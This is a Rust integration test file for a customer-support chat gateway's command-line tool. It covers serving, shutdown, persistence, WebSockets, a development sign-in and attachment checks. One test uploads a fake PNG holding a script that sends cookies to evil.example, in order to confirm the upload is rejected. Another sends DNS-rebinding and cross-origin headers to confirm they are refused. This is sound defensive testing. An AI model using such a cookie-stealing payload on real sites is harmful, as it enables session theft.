//! The README's run command, for real: `switchboard-local serve` as a process, a token from
//! `switchboard-local token`, a request, a clean stop on Ctrl-C, and the data still there after
//! a restart.

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Command, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_switchboard-local");

struct Server {
    child: Child,
    base: String,
}

impl Server {
    /// Starts the gateway on a free port and waits for the line that says where it listens.
    fn start(data_dir: &Path) -> Self {
        Self::start_with(data_dir, &[])
    }

    /// The same with more `serve` arguments.
    fn start_with(data_dir: &Path, extra: &[&str]) -> Self {
        Self::start_with_secret(data_dir, extra, None)
    }

    /// The same with `JWT_SECRET` set to `secret` (or unset).
    fn start_with_secret(data_dir: &Path, extra: &[&str], secret: Option<&str>) -> Self {
        let mut command = Command::new(BIN);
        command.args(["serve", "--port", "0", "--data-dir"]).arg(data_dir).args(extra);
        match secret {
            Some(secret) => command.env("JWT_SECRET", secret),
            None => command.env_remove("JWT_SECRET"),
        };
        let mut child = command
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("start switchboard-local serve");
        let stdout = child.stdout.take().expect("stdout is piped");
        let mut lines = BufReader::new(stdout).lines();
        let base = loop {
            let line = lines.next().expect("the server printed its address").expect("read stdout");
            if let Some(rest) = line.strip_prefix("Switchboard API on ") {
                break rest.split_whitespace().next().expect("an address").to_owned();
            }
        };
        Self { child, base }
    }

    /// Kills the process (SIGKILL: no clean stop, as a crash or a power cut).
    fn kill(mut self) {
        self.child.kill().expect("kill the server");
        self.child.wait().expect("wait for the server");
    }

    /// Sends SIGINT (what Ctrl-C sends) and waits for a clean exit.
    fn interrupt(mut self) -> std::process::ExitStatus {
        let pid = self.child.id().to_string();
        let sent = Command::new("kill").args(["-INT", &pid]).status().expect("run kill");
        assert!(sent.success());
        self.child.wait().expect("wait for the server")
    }
}

fn token(data_dir: &Path, sub: &str, role: &str) -> String {
    let output = Command::new(BIN)
        .args(["token", "--sub", sub, "--role", role, "--data-dir"])
        .arg(data_dir)
        .env_remove("JWT_SECRET")
        .output()
        .expect("run switchboard-local token");
    assert!(output.status.success(), "token failed: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).expect("utf-8 token").trim().to_owned()
}

/// A client that keeps no idle connection, so a stopping server has none to wait for.
fn client() -> reqwest::Client {
    reqwest::Client::builder().pool_max_idle_per_host(0).build().expect("an HTTP client")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_local_gateway_serves_stops_on_ctrl_c_and_keeps_its_data() {
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let client = client();
    let server = Server::start(dir.path());
    let customer = token(dir.path(), "cust-ada", "customer");

    let created = client
        .post(format!("{}/chat/sessions", server.base))
        .bearer_auth(&customer)
        .body(r#"{"subject":"Where is my parcel?"}"#)
        .send()
        .await
        .expect("create a session");
    assert_eq!(created.status().as_u16(), 201);
    let session: serde_json::Value = created.json().await.expect("session JSON");

    assert!(server.interrupt().success(), "Ctrl-C should stop the gateway cleanly");

    let restarted = Server::start(dir.path());
    let listed: serde_json::Value = client
        .get(format!("{}/chat/sessions", restarted.base))
        .bearer_auth(&customer)
        .send()
        .await
        .expect("list sessions")
        .json()
        .await
        .expect("list JSON");
    assert_eq!(listed["items"][0]["id"], session["id"], "the session survives a restart");
    assert!(restarted.interrupt().success());
}

/// The next text frame of a socket, as JSON (20 s at most).
async fn next_frame(
    socket: &mut tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>,
) -> serde_json::Value {
    use futures::StreamExt;
    loop {
        let next = tokio::time::timeout(std::time::Duration::from_secs(20), socket.next()).await;
        match next.expect("a frame within 20 s") {
            Some(Ok(tokio_tungstenite::tungstenite::Message::Text(text))) => {
                return serde_json::from_str(&text).expect("a JSON frame")
            }
            Some(Ok(_)) => continue,
            other => panic!("the socket ended: {other:?}"),
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_served_gateway_pushes_rest_changes_to_websockets_and_still_stops_on_ctrl_c() {
    pushes_rest_changes_to_websockets(&[]).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn posting_through_the_served_gateways_own_management_api_works_too() {
    pushes_rest_changes_to_websockets(&["--realtime", "management-api"]).await;
}

async fn pushes_rest_changes_to_websockets(serve_arguments: &[&str]) {
    use futures::SinkExt;
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let server = Server::start_with(dir.path(), serve_arguments);
    let customer = token(dir.path(), "cust-ada", "customer");
    let created: serde_json::Value = client()
        .post(format!("{}/chat/sessions", server.base))
        .bearer_auth(&customer)
        .body(r#"{"subject":"Live?"}"#)
        .send()
        .await
        .expect("create a session")
        .json()
        .await
        .expect("session JSON");
    let session = created["id"].as_str().expect("an id").to_owned();

    let ws = server.base.replacen("http://", "ws://", 1).replacen("/api/v1", "/ws", 1);
    let (mut socket, _) =
        tokio_tungstenite::connect_async(format!("{ws}?token={customer}")).await.expect("connect");
    let subscribe = serde_json::json!({"action": "subscribe", "session_id": session}).to_string();
    socket.send(tokio_tungstenite::tungstenite::Message::Text(subscribe.into())).await.expect("send");
    assert_eq!(next_frame(&mut socket).await["type"], "subscribed");

    // A REST send reaches the socket (in process, or through the server's own Management API).
    let sent = client()
        .post(format!("{}/chat/messages", server.base))
        .bearer_auth(&customer)
        .body(serde_json::json!({"session_id": session, "body": "over REST"}).to_string())
        .send()
        .await
        .expect("send a message");
    assert_eq!(sent.status().as_u16(), 201);
    let frame = next_frame(&mut socket).await;
    assert_eq!(
        (frame["type"].as_str(), frame["message"]["body"].as_str()),
        (Some("message.created"), Some("over REST"))
    );

    // An open socket does not keep Ctrl-C from stopping the server.
    assert!(server.interrupt().success(), "Ctrl-C should stop the gateway cleanly");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tokens_from_another_data_dir_are_refused() {
    let served = tempfile::TempDir::new().expect("temporary directory");
    let other = tempfile::TempDir::new().expect("temporary directory");
    let server = Server::start(served.path());
    let foreign = token(other.path(), "cust-ada", "customer");
    let reply = client()
        .get(format!("{}/chat/sessions", server.base))
        .bearer_auth(&foreign)
        .send()
        .await
        .expect("list sessions");
    assert_eq!(reply.status().as_u16(), 401);
    assert!(server.interrupt().success());
}

#[test]
fn an_unknown_role_is_refused_by_the_token_command() {
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let output = Command::new(BIN)
        .args(["token", "--sub", "x", "--role", "root", "--data-dir"])
        .arg(dir.path())
        .output()
        .expect("run switchboard-local token");
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("role"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn serve_with_sns_endpoint_publishes_pushes_to_that_server() {
    let moto = std::env::var(switchboard_shared::config::TEST_DYNAMODB_ENDPOINT).unwrap_or_else(|_| {
        panic!("SWITCHBOARD_TEST_DYNAMODB_ENDPOINT is not set: run the tests with scripts/test.sh, which starts moto")
    });
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let server = Server::start_with(dir.path(), &["--sns-endpoint", &moto]);
    let customer = token(dir.path(), "cust-ada", "customer");
    let admin = token(dir.path(), "admin-eve", "admin");
    let device_token = format!("cli-token-{}", ulid::Ulid::new());
    let device: serde_json::Value = client()
        .post(format!("{}/notifications/devices/register", server.base))
        .bearer_auth(&customer)
        .body(serde_json::json!({"token": device_token, "platform": "android"}).to_string())
        .send()
        .await
        .expect("register")
        .json()
        .await
        .expect("device JSON");
    let arn = device["endpoint_arn"].as_str().expect("an endpoint ARN").to_owned();
    assert!(arn.starts_with("arn:aws:sns:"), "an SNS endpoint on the server: {arn}");
    let summary: serde_json::Value = client()
        .post(format!("{}/notifications/send", server.base))
        .bearer_auth(&admin)
        .body(
            serde_json::json!({"user_id": "cust-ada", "title": "Hello", "body": "From the CLI test"})
                .to_string(),
        )
        .send()
        .await
        .expect("send")
        .json()
        .await
        .expect("summary JSON");
    assert_eq!(summary["sent"], 1, "{summary}");
    let data: serde_json::Value = client()
        .get(format!("{moto}/moto-api/data.json"))
        .send()
        .await
        .expect("moto data")
        .json()
        .await
        .expect("JSON");
    let endpoints = data["sns"]["PlatformEndpoint"].as_array().expect("endpoints");
    let ours = endpoints.iter().find(|e| e["arn"] == arn.as_str()).expect("our endpoint on moto");
    let messages = ours["messages"].as_object().expect("messages");
    assert_eq!(messages.len(), 1);
    let message: serde_json::Value =
        serde_json::from_str(messages.values().next().and_then(|m| m.as_str()).unwrap_or_default())
            .expect("JSON");
    assert!(message["GCM"].as_str().is_some_and(|g| g.contains("From the CLI test")), "{message}");
    assert!(server.interrupt().success());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn serve_hands_out_the_dashboard_and_its_development_sign_in() {
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let app = dir.path().join("dist");
    std::fs::create_dir_all(app.join("assets")).expect("create the app folder");
    std::fs::write(app.join("index.html"), "<!doctype html><title>Switchboard</title>").expect("write");
    std::fs::write(app.join("assets/app-1234.js"), "console.log(1)").expect("write");
    let app_arg = app.to_str().expect("a UTF-8 path");
    let server = Server::start_with(dir.path(), &["--dashboard-dir", app_arg]);
    let origin = server.base.trim_end_matches("/api/v1").to_owned();
    let client = client();

    for page in ["/", "/agent", "/admin/queue"] {
        let response = client.get(format!("{origin}{page}")).send().await.expect("GET a page");
        assert_eq!(response.status().as_u16(), 200, "{page}");
        assert_eq!(response.headers()["content-type"], "text/html; charset=utf-8");
        assert!(response.text().await.expect("body").contains("<title>Switchboard</title>"));
    }
    let script = client.get(format!("{origin}/assets/app-1234.js")).send().await.expect("GET a bundle");
    assert_eq!(script.headers()["content-type"], "text/javascript; charset=utf-8");
    assert!(script.headers()["cache-control"].to_str().is_ok_and(|v| v.contains("immutable")));
    let stale = client.get(format!("{origin}/assets/gone.js")).send().await.expect("GET a stale bundle");
    assert_eq!(stale.status().as_u16(), 404, "a missing file is not the page");
    let api = client.get(format!("{}/no-such-route", server.base)).send().await.expect("GET");
    assert_eq!(api.status().as_u16(), 404, "the API keeps its own 404");

    let minted = client
        .post(format!("{origin}/local/dev-token"))
        .header("content-type", "application/json")
        .header("origin", &origin)
        .body(r#"{"sub":"agent-bob","role":"agent","name":"Bob"}"#)
        .send()
        .await
        .expect("POST /local/dev-token");
    assert_eq!(minted.status().as_u16(), 200);
    let minted: serde_json::Value = minted.json().await.expect("token JSON");
    let token = minted["token"].as_str().expect("a token");
    let status = client
        .get(format!("{}/agent/status", server.base))
        .bearer_auth(token)
        .send()
        .await
        .expect("GET /agent/status");
    assert_eq!(status.status().as_u16(), 200, "the API accepts a development token");

    let refused = client
        .post(format!("{origin}/local/dev-token"))
        .header("content-type", "application/json")
        .body(r#"{"sub":"agent-bob","role":"superuser"}"#)
        .send()
        .await
        .expect("POST a bad role");
    assert_eq!(refused.status().as_u16(), 400);
    let refused: serde_json::Value = refused.json().await.expect("error JSON");
    assert_eq!(refused["error"]["code"], "invalid_request");
    assert!(server.interrupt().success());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn before_the_dashboard_is_built_its_pages_say_the_command_that_builds_it() {
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let app = dir.path().join("web").join("dist");
    let app_arg = app.to_str().expect("a UTF-8 path");
    let server = Server::start_with(dir.path(), &["--dashboard-dir", app_arg]);
    let origin = server.base.trim_end_matches("/api/v1").to_owned();
    let command =
        format!("(cd {} &amp;&amp; npm ci &amp;&amp; npm run build)", dir.path().join("web").display());

    for page in ["/", "/agent"] {
        let response = client().get(format!("{origin}{page}")).send().await.expect("GET a page");
        assert_eq!(response.status().as_u16(), 503, "{page}");
        assert_eq!(response.headers()["content-type"], "text/html; charset=utf-8");
        let text = response.text().await.expect("body");
        assert!(text.contains("not built yet") && text.contains(&command), "{page}: {text}");
    }
    let api = client().get(format!("{}/no-such-route", server.base)).send().await.expect("GET");
    assert_eq!(api.status().as_u16(), 404, "the API keeps its own 404");

    std::fs::create_dir_all(&app).expect("create the app folder");
    std::fs::write(app.join("index.html"), "<!doctype html><title>Switchboard</title>").expect("write");
    let built = client().get(format!("{origin}/")).send().await.expect("GET / once built");
    assert_eq!(built.status().as_u16(), 200, "the build is served without a restart");
    assert!(server.interrupt().success());
}

/// `POST /local/dev-token` for an admin, with these extra headers; the status and error code.
async fn dev_sign_in(origin: &str, headers: &[(&str, &str)]) -> (u16, String) {
    let mut request = client().post(format!("{origin}/local/dev-token"));
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    let response = request.body(r#"{"sub":"admin-eve","role":"admin"}"#).send().await.expect("POST");
    let status = response.status().as_u16();
    let body: serde_json::Value = response.json().await.unwrap_or_default();
    (status, body["error"]["code"].as_str().unwrap_or_default().to_owned())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_development_sign_in_refuses_foreign_hosts_origins_and_non_json_bodies() {
    // Arrange
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let server = Server::start(dir.path());
    let origin = server.base.trim_end_matches("/api/v1").to_owned();
    let port = origin.rsplit(':').next().expect("a port").to_owned();
    let json = ("content-type", "application/json");

    // Act: what a DNS-rebinding page, a cross-site page and a form post would send.
    let rebound_host = format!("rebind.attacker.example:{port}");
    let rebound = dev_sign_in(&origin, &[json, ("host", &rebound_host)]).await;
    let cross_site = dev_sign_in(&origin, &[json, ("origin", "https://attacker.example")]).await;
    let text_plain = dev_sign_in(&origin, &[("content-type", "text/plain")]).await;
    let form = dev_sign_in(&origin, &[("content-type", "application/x-www-form-urlencoded")]).await;
    let localhost_host = format!("localhost:{port}");
    let local_page =
        dev_sign_in(&origin, &[json, ("host", &localhost_host), ("origin", "http://localhost:5173")]).await;

    // Assert
    assert_eq!(rebound, (403, "forbidden_host".to_owned()));
    assert_eq!(cross_site, (403, "forbidden_origin".to_owned()));
    assert_eq!(text_plain, (400, "unsupported_content_type".to_owned()));
    assert_eq!(form, (400, "unsupported_content_type".to_owned()));
    assert_eq!(local_page.0, 200, "{local_page:?}");
    assert!(server.interrupt().success());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn logs_written_to_a_pipe_carry_no_colour_codes() {
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let mut child = Command::new(BIN)
        .args(["serve", "--port", "0", "--no-schedules", "--data-dir"])
        .arg(dir.path())
        .env_remove("JWT_SECRET")
        .env_remove("RUST_LOG")
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("start switchboard-local serve");
    let stdout = child.stdout.take().expect("stdout is piped");
    let (sender, lines) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            if sender.send(line).is_err() {
                break;
            }
        }
    });
    let base = loop {
        let line = lines.recv().expect("the server printed its address");
        if let Some(rest) = line.strip_prefix("Switchboard API on ") {
            break rest.split_whitespace().next().expect("an address").to_owned();
        }
    };

    let refused = client().get(format!("{base}/chat/rooms")).send().await.expect("GET without a token");
    assert_eq!(refused.status().as_u16(), 401);
    let pid = child.id().to_string();
    assert!(Command::new("kill").args(["-INT", &pid]).status().expect("run kill").success());
    assert!(child.wait().expect("wait for the server").success());

    let logged: Vec<String> = lines.iter().collect();
    assert!(logged.iter().any(|line| line.contains("token refused")), "the refusal is logged: {logged:?}");
    assert!(logged.iter().all(|line| !line.contains('\u{1b}')), "no colour codes in a pipe: {logged:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_development_sign_in_is_off_with_jwt_secret_set_unless_asked_for() {
    // Arrange
    let secret = "a-configured-secret-a-configured-secret";
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let json = ("content-type", "application/json");

    // Act
    let default = Server::start_with_secret(dir.path(), &[], Some(secret));
    let off = dev_sign_in(default.base.trim_end_matches("/api/v1"), &[json]).await;
    assert!(default.interrupt().success());
    let forced = Server::start_with_secret(dir.path(), &["--dev-sign-in"], Some(secret));
    let on = dev_sign_in(forced.base.trim_end_matches("/api/v1"), &[json]).await;
    assert!(forced.interrupt().success());

    // Assert
    assert_eq!(off.0, 404, "{off:?}");
    assert_eq!(on.0, 200, "{on:?}");
}

#[test]
fn the_token_command_refuses_a_lifetime_the_gateway_would_refuse() {
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let output = Command::new(BIN)
        .args(["token", "--sub", "cust-ada", "--role", "customer", "--ttl", "31536000", "--data-dir"])
        .arg(dir.path())
        .env_remove("JWT_SECRET")
        .env_remove("JWT_MAX_LIFETIME_SECONDS")
        .output()
        .expect("run switchboard-local token");
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("JWT_MAX_LIFETIME_SECONDS"));
}

/// Today's messages by role, as an admin's message analytics show them.
async fn todays_messages(server: &Server, admin: &str) -> serde_json::Value {
    let report: serde_json::Value = client()
        .get(format!("{}/admin/chat-dashboard/message-analytics", server.base))
        .bearer_auth(admin)
        .send()
        .await
        .expect("read the message analytics")
        .json()
        .await
        .expect("analytics JSON");
    report["totals"].clone()
}

/// `POST /local/feed/drain` as `admin`; its status.
async fn drain(server: &Server, admin: &str) -> u16 {
    let root = server.base.trim_end_matches("/api/v1");
    let response = client()
        .post(format!("{root}{}", switchboard_local::feed::DRAIN_PATH))
        .bearer_auth(admin)
        .send()
        .await
        .expect("drain the feed");
    response.status().as_u16()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_whose_gateway_was_killed_before_its_reactions_gets_them_after_a_restart() {
    // Arrange: a gateway whose consumer does not run stores a message, and is killed.
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let server = Server::start_with(dir.path(), &["--no-feed", "--no-schedules"]);
    let customer = token(dir.path(), "cust-ada", "customer");
    let admin = token(dir.path(), "admin-eve", "admin");
    let created: serde_json::Value = client()
        .post(format!("{}/chat/sessions", server.base))
        .bearer_auth(&customer)
        .body(r#"{"subject":"Crash?"}"#)
        .send()
        .await
        .expect("create a session")
        .json()
        .await
        .expect("session JSON");
    let sent = client()
        .post(format!("{}/chat/messages", server.base))
        .bearer_auth(&customer)
        .body(serde_json::json!({"session_id": created["id"], "body": "before the crash"}).to_string())
        .send()
        .await
        .expect("send a message");
    assert_eq!(sent.status().as_u16(), 201);
    assert_eq!(drain(&server, &admin).await, 503, "no consumer runs with --no-feed");
    assert_eq!(todays_messages(&server, &admin).await["customer"], 0, "its reactions have not run");
    server.kill();

    // Act
    let server = Server::start_with(dir.path(), &["--no-schedules"]);
    let drained = drain(&server, &admin).await;

    // Assert
    assert_eq!(drained, 204);
    assert_eq!(todays_messages(&server, &admin).await["customer"], 1, "counted once, after the restart");
    assert!(server.interrupt().success());
}

use switchboard_shared::attachments::s3::S3AttachmentObjects;
use switchboard_shared::attachments::store::AttachmentObjects;

/// A 1×1 PNG without metadata (the check keeps it byte for byte).
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\x0aIDATx\x9cc\0\x01\0\0\x05\0\x01\x0d\x0a\x2d\xb4\0\0\0\0IEND\xaeB\x60\x82";

/// Asks for an upload of `bytes` as `name` (`image/png`) and posts its form as a browser does:
/// the attachment's id, the object's key, where the form went and the upload's status.
async fn upload_png(
    server: &Server,
    customer: &str,
    session: &str,
    name: &str,
    bytes: &[u8],
) -> (String, String, String, u16) {
    let requested: serde_json::Value = client()
        .post(format!("{}/chat/sessions/{session}/attachments", server.base))
        .bearer_auth(customer)
        .body(
            serde_json::json!({"file_name": name, "content_type": "image/png", "size": bytes.len()})
                .to_string(),
        )
        .send()
        .await
        .expect("request an upload")
        .json()
        .await
        .expect("upload JSON");
    let form = &requested["upload"];
    let url = form["url"].as_str().unwrap_or_else(|| panic!("an upload form: {requested}")).to_owned();
    let boundary = "----switchboard-cli-boundary";
    let mut body = Vec::new();
    for (field, value) in form["fields"].as_object().expect("the form's fields") {
        let value = value.as_str().unwrap_or_default();
        body.extend(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n")
                .bytes(),
        );
    }
    body.extend(format!("--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"f\"\r\nContent-Type: image/png\r\n\r\n").bytes());
    body.extend(bytes);
    body.extend(format!("\r\n--{boundary}--\r\n").bytes());
    let posted = client()
        .post(&url)
        .header("content-type", format!("multipart/form-data; boundary={boundary}"))
        .body(body)
        .send()
        .await
        .expect("post the upload form");
    let id = requested["attachment"]["id"].as_str().expect("an attachment id").to_owned();
    let key = form["fields"]["key"].as_str().expect("the object's key").to_owned();
    (id, key, url, posted.status().as_u16())
}

/// `serve --s3-endpoint URL --attachments-bucket NAME` on SQLite and on a DynamoDB table of the
/// same server.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn serve_with_s3_endpoint_keeps_attachments_in_that_servers_bucket_on_sqlite() {
    attachments_in_an_s3_bucket(false).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn serve_with_s3_endpoint_keeps_attachments_in_that_servers_bucket_on_dynamodb() {
    attachments_in_an_s3_bucket(true).await;
}

/// Upload through the gateway, checked (announced live) and downloaded from the bucket on the
/// S3-compatible server; a PNG that is really HTML is rejected and gone from the bucket.
async fn attachments_in_an_s3_bucket(on_dynamodb: bool) {
    use futures::SinkExt;
    // Arrange
    let moto = std::env::var(switchboard_shared::config::TEST_DYNAMODB_ENDPOINT).unwrap_or_else(|_| {
        panic!("SWITCHBOARD_TEST_DYNAMODB_ENDPOINT is not set: run the tests with scripts/test.sh, which starts moto")
    });
    let dir = tempfile::TempDir::new().expect("temporary directory");
    let unique = ulid::Ulid::new().to_string().to_lowercase();
    let bucket = format!("attachments-{unique}");
    let table = format!("cli-{unique}");
    let mut arguments = vec!["--s3-endpoint", &moto, "--attachments-bucket", &bucket];
    if on_dynamodb {
        arguments.extend(["--dynamodb-endpoint", &moto, "--table", &table]);
    }
    let server = Server::start_with(dir.path(), &arguments);
    let customer = token(dir.path(), "cust-ada", "customer");
    let created: serde_json::Value = client()
        .post(format!("{}/chat/sessions", server.base))
        .bearer_auth(&customer)
        .body(r#"{"subject":"The error screen"}"#)
        .send()
        .await
        .expect("create a session")
        .json()
        .await
        .expect("session JSON");
    let session = created["id"].as_str().expect("an id").to_owned();
    let ws = server.base.replacen("http://", "ws://", 1).replacen("/api/v1", "/ws", 1);
    let (mut socket, _) =
        tokio_tungstenite::connect_async(format!("{ws}?token={customer}")).await.expect("connect");
    let subscribe = serde_json::json!({"action": "subscribe", "session_id": session}).to_string();
    socket.send(tokio_tungstenite::tungstenite::Message::Text(subscribe.into())).await.expect("send");
    assert_eq!(next_frame(&mut socket).await["type"], "subscribed");
    let html = b"<html><script>document.location='https://evil.example/?'+document.cookie</script></html>";

    // Act
    let (id, key, form_url, posted) = upload_png(&server, &customer, &session, "error screen.png", PNG).await;
    let announced = next_frame(&mut socket).await;
    let link: serde_json::Value = client()
        .get(format!("{}/chat/sessions/{session}/attachments/{id}", server.base))
        .bearer_auth(&customer)
        .send()
        .await
        .expect("ask for a download link")
        .json()
        .await
        .expect("link JSON");
    let url = link["url"].as_str().unwrap_or_else(|| panic!("a download link: {link}")).to_owned();
    let file = client().get(&url).send().await.expect("the bucket answers");
    let file_type = file.headers().get("content-type").and_then(|v| v.to_str().ok()).map(str::to_owned);
    let file_bytes = file.bytes().await.expect("the file");
    let (fake_id, fake_key, _, fake_posted) =
        upload_png(&server, &customer, &session, "cute cat.png", html).await;
    let fake_link = client()
        .get(format!("{}/chat/sessions/{session}/attachments/{fake_id}", server.base))
        .bearer_auth(&customer)
        .send()
        .await
        .expect("ask for a download link");
    let fake_link_status = fake_link.status().as_u16();
    let fake_link_body: serde_json::Value = fake_link.json().await.expect("error JSON");
    let objects = S3AttachmentObjects::for_endpoint(&moto, &bucket);
    let stored = objects.get(&key).await.expect("the bucket answers");
    let fake_stored = objects.get(&fake_key).await.expect("the bucket answers");

    // Assert
    assert!(
        form_url.starts_with(&server.base.replacen("/api/v1", "", 1)),
        "the form posts to the gateway: {form_url}"
    );
    assert_eq!(posted, 204);
    assert_eq!(
        (
            announced["type"].as_str(),
            announced["attachment"]["id"].as_str(),
            announced["attachment"]["status"].as_str()
        ),
        (Some("attachment.updated"), Some(id.as_str()), Some("ready")),
        "{announced}"
    );
    assert!(url.starts_with(&format!("{moto}/{bucket}/")), "downloaded from the bucket: {url}");
    assert_eq!(file_type.as_deref(), Some("image/png"));
    assert_eq!(file_bytes.as_ref(), PNG);
    assert_eq!(stored.as_deref(), Some(PNG), "the checked file is in the bucket");
    assert_eq!(fake_posted, 204, "the form was valid; the check refuses the content");
    assert_eq!(
        (fake_link_status, fake_link_body["error"]["code"].as_str()),
        (409, Some("attachment_rejected"))
    );
    assert_eq!(fake_stored, None, "the rejected file is deleted from the bucket");
    assert!(server.interrupt().success());
}

/// `email-inbound FILE.eml` takes a reply in beside a running `serve`: its photo becomes the
/// message's attachment in the bucket `serve` keeps attachments in (the data directory's),
/// checked at once, so the agent can open it; the page it also brings is left out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn email_inbound_posts_a_reply_with_its_photo_checked_into_the_gateways_bucket() {
    use switchboard_shared::domain::SessionId;
    use switchboard_shared::store::sqlite::SqliteItemStore;

    // Arrange: a visitor who gave their address opens a session on a served gateway; their
    // reply by e-mail, with a photo, is saved as a file.
    let dir = tempfile::tempdir().expect("a data dir");
    let server = Server::start(dir.path());
    let admin = token(dir.path(), "admin-eve", "admin");
    let shop = "http://shop.example";
    let post = |path: &str, token: &str, body: serde_json::Value| {
        client()
            .post(format!("{}{path}", server.base))
            .header("origin", shop)
            .bearer_auth(token)
            .body(body.to_string())
            .send()
    };
    let site: serde_json::Value =
        post("/admin/sites", &admin, serde_json::json!({"name": "Shop", "allowed_origins": [shop]}))
            .await
            .expect("add the site")
            .json()
            .await
            .expect("the site");
    let address = "grace@example.com";
    let visitor: serde_json::Value = client()
        .post(format!("{}/widget/visitors", server.base))
        .header("origin", shop)
        .body(serde_json::json!({"site_id": site["site_id"], "name": "Grace", "email": address}).to_string())
        .send()
        .await
        .expect("the pre-chat form")
        .json()
        .await
        .expect("the visitor");
    let customer = visitor["token"].as_str().expect("a visitor token").to_owned();
    let opened: serde_json::Value =
        post("/chat/sessions", &customer, serde_json::json!({"subject": "Ship to Spain?"}))
            .await
            .expect("open a session")
            .json()
            .await
            .expect("the session");
    let session = opened["id"].as_str().expect("a session id").to_owned();
    let store = SqliteItemStore::open(&dir.path().join("switchboard.db")).expect("the data dir's store");
    let session_id = SessionId::parse(&session).expect("a session id");
    let reply_to =
        switchboard_shared::ops::email::reply_address(&store, &session_id, "in.switchboard.localhost")
            .await
            .expect("the session's reply address");
    let mail = include_str!("../../tests/fixtures/email/photo-reply.eml")
        .replace("{from}", address)
        .replace("{to}", &reply_to)
        .replace("{message_id}", "photo-1@mail.gmail.com");
    let file = dir.path().join("reply.eml");
    std::fs::write(&file, mail).expect("save the reply");
    let gateway = server.base.trim_end_matches("/api/v1").to_owned();

    // Act
    let output = Command::new(BIN)
        .arg("email-inbound")
        .arg(&file)
        .args(["--gateway", &gateway, "--data-dir"])
        .arg(dir.path())
        .env_remove("JWT_SECRET")
        .output()
        .expect("run switchboard-local email-inbound");
    let messages: serde_json::Value = client()
        .get(format!("{}/chat/messages/{session}?limit=50", server.base))
        .header("origin", shop)
        .bearer_auth(&customer)
        .send()
        .await
        .expect("the messages")
        .json()
        .await
        .expect("the messages' JSON");
    let by_email = |message: &&serde_json::Value| message["channel"] == "email";
    let message = messages["items"].as_array().and_then(|all| all.iter().find(by_email)).cloned();
    let message =
        message.unwrap_or_else(|| panic!("the reply among {messages}; the command printed {output:?}"));
    let file_id = message["attachments"][0]["id"].as_str().unwrap_or_default().to_owned();
    let link = client()
        .get(format!("{}/chat/sessions/{session}/attachments/{file_id}", server.base))
        .header("origin", shop)
        .bearer_auth(&customer)
        .send()
        .await
        .expect("the photo's link");
    let link_status = link.status().as_u16();
    let link: serde_json::Value = link.json().await.expect("the link's JSON");
    let photo = match link["url"].as_str() {
        Some(url) => client()
            .get(url)
            .send()
            .await
            .expect("the link answers")
            .bytes()
            .await
            .expect("the photo")
            .to_vec(),
        None => Vec::new(),
    };

    // Assert
    // Standard output is the outcome alone (the log lines, such as the page left out, go to
    // standard error), so a script can read it.
    let printed: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap_or_else(|_| {
        panic!(
            "JSON alone: {}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    });
    let logged = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success());
    assert_eq!(printed["outcome"], "posted", "{printed}");
    assert_eq!(printed["attachments"], 1, "the photo, not the page: {printed}");
    assert!(logged.contains("order.html"), "the page left out is logged: {logged}");
    assert_eq!(message["body"], "Here is a photo of the box it came in.", "{message}");
    assert_eq!(message["attachments"][0]["file_name"], "box.png", "{message}");
    assert_eq!(link_status, 200, "checked at once, so it may be downloaded: {link}");
    assert!(photo.starts_with(b"\x89PNG\r\n\x1a\n"), "the photo downloads: {link}");
    assert!(server.interrupt().success());
}
